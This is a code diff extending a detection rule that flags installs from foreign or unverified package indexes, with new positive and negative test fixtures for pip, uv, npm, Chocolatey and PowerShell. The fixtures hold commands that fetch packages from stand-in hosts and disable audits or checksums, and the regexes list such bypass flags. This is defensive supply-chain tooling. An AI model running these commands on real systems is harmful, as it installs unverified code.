@@ -1,6 +1,7 @@
 import { type Address, addressesIn, isNearby, isPlaceholder } from "../../known/addresses.ts";
 import { isInstall } from "../../known/commands.ts";
 import { isToldToInstall } from "../../known/install-told.ts";
+import { addsSource, statedIndexes, writtenIndexes } from "../../known/package-indexes.ts";
 import { installationOf } from "../../known/packages.ts";
 import { startedInstalls } from "../../known/started-installs.ts";
 import type { ReadPassage } from "../../passage.ts";
@@ -42,6 +43,16 @@ export const foreignIndex: PassageRule = {
         "setup.py":
           "import os, sys\nos.system(f'{sys.executable} -m pip install --index-url http://203.0.113.7/simple {sys.argv[1]}')\n",
       },
+      {
+        "run.py":
+          '# /// script\n# dependencies = ["tables"]\n# [[tool.uv.index]]\n# url = "https://packages.tools.example/simple"\n# ///\nimport tables\n',
+      },
+      {
+        "setup.mjs":
+          "import fs from 'node:fs';\nfs.appendFileSync('.npmrc', ['@tables:registry=https://npm.tools.example/', 'audit=false'].join('\\n'));\n",
+      },
+      { "setup.ps1": "choco source add --name=near --source=http://choco.tools.example/api/v2\n" },
+      { "setup.ps1": "Register-PSRepository -Name near -SourceLocation https://ps.tools.example/v2\n" },
       { "requirements.txt": "--extra-index-url https://packages.tools.example/simple\ntables==2.1\n" },
       {
         "setup.sh":
@@ -50,11 +61,15 @@ export const foreignIndex: PassageRule = {
     ],
     ignores: [
       "```bash\npip install torch --index-url https://download.pytorch.org/whl/cu121\nnpm install --registry https://registry.npmjs.org\n```\n",
+      {
+        "setup.mjs":
+          "import fs from 'node:fs';\nfs.writeFileSync('.npmrc', 'registry=https://registry.npmjs.org/\\n');\n",
+      },
       { "requirements.txt": "-i https://pypi.org/simple\ntables==2.1\n" },
       "```bash\npip install --index-url http://localhost:3141/root/pypi tables\n```\n",
     ],
   },
-  hint: /index-url|trusted-host|find-links|default-index|--index\b|registry|INDEX_URL|index_url|tool\.uv|--source|trusted=yes|allow-unauthenticated|nogpgcheck|no-gpg-check|allow-untrusted|apt-key|\s-[if]\s/i,
+  hint: /index-url|trusted-host|find-links|default-index|--index\b|registry|INDEX_URL|index_url|tool\.uv|--source|trusted=yes|allow-unauthenticated|nogpgcheck|no-gpg-check|allow-untrusted|apt-key|GOPROXY|--dangerous|\bsources?\s+(?:add|-a|--add)|nuget\s+add|Register-P|ignore-checksum|\s-[if]\s/i,
   check: hitsOf,
 };
 
@@ -68,14 +83,17 @@ const isForeign = (address: Address): boolean =>
 const indexOption =
   /^(?:-i|-f|--index-url|--extra-index-url|--find-links|--default-index|--index|--registry|--source|--clear-sources)(?:=|$)/;
 const unchecked =
-  /^(?:--allow-unauthenticated|--nogpgcheck|--no-gpg-checks|--allow-untrusted|--no-gpg-check|--allow-insecure-repositories)$/;
-const setting = /(?:PIP_(?:EXTRA_)?INDEX_URL|UV_(?:DEFAULT_|EXTRA_)?INDEX(?:_URL)?|NPM_CONFIG_REGISTRY)=(\S+)/i;
+  /^(?:--ignore-checksums?|--allow-empty-checksums(?:-\w+)?|--ignore-security-hash|--allow-unauthenticated|--nogpgcheck|--no-gpg-checks|--allow-untrusted|--no-gpg-check|--allow-insecure-repositories)$/;
+const setting = /(?:GOPROXY|PIP_(?:EXTRA_)?INDEX_URL|UV_(?:DEFAULT_|EXTRA_)?INDEX(?:_URL)?|NPM_CONFIG_REGISTRY)=(\S+)/i;
 
 function* hitsOf(passage: ReadPassage): Generator<Hit> {
   if (passage.program === null) yield* hitsOfData(passage);
-  else if (isToldToInstall(passage))
+  else if (isToldToInstall(passage)) {
     for (const command of [...passage.program.commands, ...startedInstalls(passage.program)])
       if (usesForeign(command)) yield { line: command.line };
+    for (const { index, line } of [...writtenIndexes(passage.program), ...statedIndexes(passage)])
+      if (addressesIn(index).some(isForeign)) yield { line };
+  }
 }
 
 function usesForeign(command: Command): boolean {
@@ -87,9 +105,11 @@ function usesForeign(command: Command): boolean {
   if (name === "apt-key" && texts[0] === "add") return true;
   if (/^(?:npm|pnpm|yarn|pip3?)$/.test(name) && texts[0] === "config")
     return texts.some((one) => /registry$|index-url$/.test(one)) && texts.flatMap(addressesIn).some(isForeign);
+  // PowerShell's grammar takes `--source=` for something else: the text tells more than its words.
+  if (addsSource(command)) return addressesIn(text).some(isForeign);
   if (!isInstall(command) && name !== "python" && installationOf(command) === null) return false;
   return (
-    texts.some((one) => unchecked.test(one)) ||
+    texts.some((one) => unchecked.test(one) || (name === "snap" && one === "--dangerous")) ||
     texts.some(
       (one, at) => /^--trusted-host(?:=|$)/.test(one) && !isKnownHost(one.split("=")[1] ?? texts[at + 1] ?? ""),
     ) ||
@@ -107,12 +127,13 @@ function isKnownHost(host: string): boolean {
 
 /** Files that package managers take their indexes from. */
 const statement =
-  /^\s*(?:--(?:extra-)?index-url|--find-links|-i|-f|(?:@[\w-]+:)?registry|(?:extra-)?index-url|url(?=\s*=\s*"[^"]*\/simple))[ \t]*[=\s]\s*(\S+)|^--trusted-host\s+(\S+)/;
+  /^source\s+["'](\S+)["']|^\s*(?:--(?:extra-)?index-url|--find-links|-i|-f|(?:@[\w-]+:)?registry|(?:extra-)?index-url|url(?=\s*=\s*"[^"]*\/simple))[ \t]*[=\s]\s*(\S+)|^--trusted-host\s+(\S+)/;
 
 function* hitsOfData({ place, text, line }: ReadPassage): Generator<Hit> {
   if (place !== "data") return;
   for (const [at, one] of text.split("\n").entries()) {
-    const [, index, host] = statement.exec(one) ?? [];
+    const [, source, named, host] = statement.exec(one) ?? [];
+    const index = source ?? named;
     const isHit = index === undefined ? host !== undefined && !isKnownHost(host) : addressesIn(index).some(isForeign);
     if (isHit) yield { line: line + at };
   }
